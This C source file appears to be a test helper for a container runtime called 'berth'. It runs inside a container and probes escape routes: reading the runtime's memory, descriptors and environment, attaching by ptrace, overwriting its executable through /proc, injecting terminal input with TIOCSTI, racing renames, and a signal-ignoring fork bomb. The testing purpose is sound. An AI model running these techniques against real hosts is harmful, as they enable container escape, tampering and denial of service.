/*
 * attack: what a hostile process of a container tries. Static, for every root file system. What succeeds is printed as "got WHAT".
 *
 *   attack watch              until the file /stop is there: looks for processes called "berth" and attacks each: their descriptors,
 *                             directories, memory, and by ptrace. "saw berth" when there was one, "tried berth" when all was tried
 *   attack hold               the same with those that are found first, once; they are stopped (SIGSTOP) before
 *   attack overwrite FILE     holds FILE, and tries to write to it in every way there is, for half a second
 *   attack swap A B [N]       exchanges A and B again and again (N times, or for ever)
 *   attack tty TEXT           types TEXT into the terminal on descriptors 0 to 2
 *   attack fds                every open descriptor but 0 to 2, with what it is
 *   attack bomb               processes that fork for ever, each living for a moment; at most 200 at once
 *   attack caps               the capability sets of this process as the kernel has them
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static void say(const char *what, const char *detail)
{
	char line[512];
	int n = snprintf(line, sizeof line, "%s%s%s\n", what, *detail ? " " : "", detail);

	if (write(1, line, (size_t)n) < 0)
		_exit(1);
}

/* --- a process of the runtime -------------------------------------------------------------------------------------------- */

static bool opens(pid_t pid, const char *name, int flags)
{
	char path[300];

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* These are opened by anybody, and read only by who may. */
static bool reads(pid_t pid, const char *name)
{
	char path[64], byte;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, &byte, 1);

	if (fd >= 0)
		close(fd);
	return n > 0;
}

static bool takes_descriptor(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd = -1;

	for (int number = 0; pidfd >= 0 && fd < 0 && number < 32; number++)
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
	if (fd >= 0)
		close(fd);
	if (pidfd >= 0)
		close(pidfd);
	return fd >= 0;
}

/* The address is none; who may not look at all is told EPERM. */
static bool reaches_memory(pid_t pid)
{
	char byte;
	struct iovec local = { &byte, 1 }, remote = { (void *)16, 1 };

	return process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0 && errno == EFAULT;
}

static bool traces(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return false;
	/* Only who is stopped can be let go. */
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return true;
}

/* What its descriptors are, each once. */
static void look_at_descriptors(pid_t pid)
{
	static char seen[64][256];
	static size_t count;
	char path[40], target[256];

	for (int fd = 0; fd < 64; fd++) {
		size_t i = 0;

		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t n = readlink(path, target, sizeof target - 1);

		if (n < 0)
			continue;
		target[n] = 0;
		while (i < count && strcmp(seen[i], target) != 0)
			i++;
		if (i < count || count == 64)
			continue;
		strcpy(seen[count++], target);
		say("sees", target);
	}
}

/* "CapPrm: 0123…" */
static void look_at_capabilities(pid_t pid)
{
	char path[40], line[256];

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *status = fopen(path, "re");

	while (status && fgets(line, sizeof line, status)) {
		line[strcspn(line, "\n")] = 0;
		if (strncmp(line, "CapPrm", 6) == 0)
			say("sees", line);
	}
	if (status)
		fclose(status);
}

static void strike(pid_t pid)
{
	look_at_capabilities(pid);
	static const char *const links[] = { "root", "cwd", "exe", "ns/mnt", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8" };

	look_at_descriptors(pid);
	for (size_t i = 0; i < sizeof links / sizeof *links; i++)
		if (opens(pid, links[i], O_RDONLY))
			say("got", links[i]);
	if (opens(pid, "mem", O_RDWR))
		say("got", "mem");
	if (reads(pid, "environ"))
		say("got", "environ");
	if (reads(pid, "maps"))
		say("got", "maps");
	if (takes_descriptor(pid))
		say("got", "a descriptor by pidfd_getfd");
	if (reaches_memory(pid))
		say("got", "its memory by process_vm_readv");
	if (traces(pid))
		say("got", "it by ptrace");
}

static bool is_runtime(pid_t pid)
{
	char path[40], name[20];

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, name, sizeof name);

	if (fd >= 0)
		close(fd);
	return n == 6 && memcmp(name, "berth\n", 6) == 0;
}

static int watch(bool stop)
{
	bool saw = false;

	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			pid_t pid = atoi(entry->d_name);

			if (pid <= 0 || !is_runtime(pid))
				continue;
			if (stop)
				kill(pid, SIGSTOP);
			if (!saw)
				say("saw berth", "");
			strike(pid);
			if (!saw)
				say("tried berth", "");
			saw = true;
			if (stop)
				kill(pid, SIGCONT);
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

/* --- its program --------------------------------------------------------------------------------------------------------- */

static int overwrite(const char *path)
{
	static const int flags[] = { O_RDWR, O_WRONLY, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
	char held[40];
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return printf("cannot open %s: %s\n", path, strerror(errno)), 1;
	say("holding", path);
	snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
	/* As long as the file is executed it cannot be written; the attacker waits until it is not. */
	for (int i = 0; i < 500; i++) {
		for (size_t j = 0; j < sizeof flags / sizeof *flags; j++) {
			int open_fd = open(held, flags[j] | O_CLOEXEC);

			if (open_fd < 0)
				continue;
			if (write(open_fd, "#!/pwned\n", 9) == 9)
				return say("got", "the program"), 0;
			close(open_fd);
		}
		void *map = MAP_FAILED;
		int reader = open(held, O_RDONLY | O_CLOEXEC);

		if (reader >= 0)
			map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, reader, 0);
		if (map != MAP_FAILED)
			return say("got", "the program's pages"), 0;
		if (reader >= 0)
			close(reader);
		if (truncate(held, 0) == 0)
			return say("got", "the program cut off"), 0;
		usleep(1000);
	}
	return 0;
}

/* --- the rest ------------------------------------------------------------------------------------------------------------ */

static int swap(const char *a, const char *b, long count)
{
	for (long i = 0; count <= 0 || i < count; i++)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT)
			return perror("renameat2"), 1;
	return 0;
}

static int type_into_terminal(const char *text)
{
	for (int fd = 0; fd < 3; fd++) {
		if (ioctl(fd, TIOCSTI, text) < 0) {
			printf("descriptor %d: %s\n", fd, strerror(errno));
			continue;
		}
		for (const char *c = text + 1; *c; c++)
			ioctl(fd, TIOCSTI, c);
		return say("got", "the terminal's input"), 0;
	}
	return 0;
}

static int list_descriptors(void)
{
	for (int fd = 3; fd < 4096; fd++) {
		char path[40], target[256];

		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof target - 1);

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		target[n < 0 ? 0 : n] = 0;
		say("got", *target ? target : "a descriptor");
	}
	say("looked", "");
	return 0;
}

static _Noreturn void breed(int *alive)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		if (__atomic_load_n(alive, __ATOMIC_SEQ_CST) < 200 && fork() == 0) {
			__atomic_add_fetch(alive, 1, __ATOMIC_SEQ_CST);
			/* Nobody's group or session is signalled with others. */
			setsid();
			if (fork() == 0)
				continue;
			usleep(20000);
			__atomic_sub_fetch(alive, 1, __ATOMIC_SEQ_CST);
			_exit(0);
		}
		usleep(100);
	}
}

static int bomb(void)
{
	int *alive = mmap(NULL, sizeof *alive, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (alive == MAP_FAILED)
		return 1;
	for (int sig = 1; sig < 32; sig++)
		if (sig != SIGCHLD)
			signal(sig, SIG_IGN);
	say("breeding", "");
	breed(alive);
}

static int print_capabilities(void)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");

	while (status && fgets(line, sizeof line, status))
		if (strncmp(line, "Cap", 3) == 0)
			fputs(line, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "watch"))
		return watch(false);
	if (!strcmp(what, "hold"))
		return watch(true);
	if (!strcmp(what, "overwrite") && argc > 2)
		return overwrite(argv[2]);
	if (!strcmp(what, "swap") && argc > 3)
		return swap(argv[2], argv[3], argc > 4 ? atol(argv[4]) : 0);
	if (!strcmp(what, "tty") && argc > 2)
		return type_into_terminal(argv[2]);
	if (!strcmp(what, "fds"))
		return list_descriptors();
	if (!strcmp(what, "bomb"))
		return bomb();
	if (!strcmp(what, "caps"))
		return print_capabilities();
	fputs("attack: see the top of attack.c\n", stderr);
	return 2;
}
